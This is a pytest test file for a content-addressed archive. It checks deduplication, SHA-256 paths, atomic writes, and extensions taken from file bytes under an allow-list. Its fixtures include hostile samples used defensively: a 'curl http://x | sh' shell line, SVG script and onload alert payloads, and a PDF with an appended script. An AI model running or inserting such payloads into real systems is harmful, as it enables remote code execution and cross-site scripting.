"""The content-addressed archive: one file per content, written atomically."""

from __future__ import annotations

import pytest

from pipelines.archive import archive_bytes


def test_same_content_is_stored_once(tmp_path):
    first = archive_bytes(tmp_path, b"%PDF-1.4 minutes", "application/pdf")
    second = archive_bytes(tmp_path, b"%PDF-1.4 minutes", "application/pdf")
    assert first == second
    assert len(list(tmp_path.rglob("*.pdf"))) == 1


def test_path_is_the_sha256_with_the_media_type_extension(tmp_path):
    sha, relative = archive_bytes(tmp_path, b"a,b\n1,2\n", "text/csv")
    assert relative == f"{sha[:2]}/{sha}.csv"
    assert (tmp_path / relative).read_bytes() == b"a,b\n1,2\n"


def test_no_temporary_files_are_left_behind(tmp_path):
    archive_bytes(tmp_path, b"<html></html>", "text/html")
    assert [p.name for p in tmp_path.rglob(".tmp-*")] == []


def test_archived_copies_are_world_readable(tmp_path):
    _sha, relative = archive_bytes(tmp_path, b"%PDF-1.4 minutes", "application/pdf")
    assert (tmp_path / relative).stat().st_mode & 0o777 == 0o644


PDF_WITH_SCRIPT = b"%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF\n<script>new ActiveXObject('x')</script>"


@pytest.mark.parametrize("content_type", [
    "application/hta", "application/x-sh", "application/java-archive", "text/javascript",
    "application/x-msdownload", "",
])
def test_the_extension_comes_from_the_bytes_not_the_server(tmp_path, content_type):
    _sha, relative = archive_bytes(tmp_path, PDF_WITH_SCRIPT, content_type)
    assert relative.endswith(".pdf")


@pytest.mark.parametrize(("body", "content_type"), [
    (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00", "application/pdf"),
    (b"#!/bin/sh\ncurl http://x | sh\n", "text/plain"),
    (b"PK\x03\x04 a jar or any zip that is not an Office file", "application/java-archive"),
    (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
     "image/svg+xml"),
    (b'<?xml version="1.0"?><svg onload="alert(1)"/>', "image/svg+xml"),
    (b"\x00\x01\x02\x03 binary noise \x00\x00", "text/html"),
])
def test_formats_off_the_allow_list_are_archived_as_bin(tmp_path, body, content_type):
    _sha, relative = archive_bytes(tmp_path, body, content_type)
    assert relative.endswith(".bin")


@pytest.mark.parametrize(("body", "extension"), [
    (b"<!DOCTYPE html><html><body><p>Minutes</p></body></html>", "html"),
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "png"),
    (b"\xff\xd8\xff\xe0\x00\x10JFIF", "jpg"),
    (b"{\\rtf1\\ansi Minutes}", "rtf"),
    (b"From: clerk@town.example.gov\nTo: a@b.example\nSubject: MOU\nDate: Mon, 1 Jan 2024\n\nHi",
     "eml"),
    (b'{"agency": "Town PD", "shared_with": ["HSI"]}', "json"),
    (b"Minutes of the board.\nThe chair opened the meeting.\n", "txt"),
])
def test_allowed_formats_keep_their_own_extension(tmp_path, body, extension):
    _sha, relative = archive_bytes(tmp_path, body, "application/octet-stream")
    assert relative.endswith(f".{extension}")
